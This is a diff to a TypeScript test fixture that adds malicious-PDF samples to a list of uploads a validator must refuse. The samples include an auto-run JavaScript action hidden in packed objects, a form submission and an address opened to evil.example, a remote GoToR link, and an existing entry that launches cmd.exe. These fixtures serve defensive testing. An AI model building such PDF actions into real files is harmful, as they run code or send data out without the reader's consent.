@@ -1,3 +1,4 @@
+import { packedPdf, page } from './pdf-files.ts'
 import { crc32, deflateSync, gzipSync } from 'node:zlib'
 
 /** A file somebody means harm with, or sends by mistake. */
@@ -140,6 +141,31 @@ export const REFUSED: readonly HostileUpload[] = [
   ),
   hostile('a PDF that starts a program', 'a.pdf', 'application/pdf', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')),
   hostile('a PDF that carries another file', 'a.pdf', 'application/pdf', pdf('/Names << /EmbeddedFiles 2 0 R >>')),
+  hostile(
+    'a PDF with a script among packed objects',
+    'a.pdf',
+    'application/pdf',
+    packedPdf(page('x', '/OpenAction 6 0 R', { 6: '<< /S /JavaScript /JS (app.alert(1)) >>' })),
+  ),
+  hostile(
+    'a PDF that opens an address with it',
+    'a.pdf',
+    'application/pdf',
+    pdf('/OpenAction << /S /URI /URI (https://evil.example) >>'),
+  ),
+  hostile(
+    'a PDF that sends a form',
+    'a.pdf',
+    'application/pdf',
+    pdf('/A << /S /SubmitForm /F (https://evil.example) >>'),
+  ),
+  hostile(
+    'a PDF that leads to another computer',
+    'a.pdf',
+    'application/pdf',
+    pdf('/A << /S /GoToR /F (//evil/x.pdf) >>'),
+  ),
+  hostile('an encrypted PDF', 'a.pdf', 'application/pdf', pdf('/Encrypt 2 0 R')),
   hostile('a PDF without an end', 'a.pdf', 'application/pdf', of('%PDF-1.7\nnothing')),
 ]
 
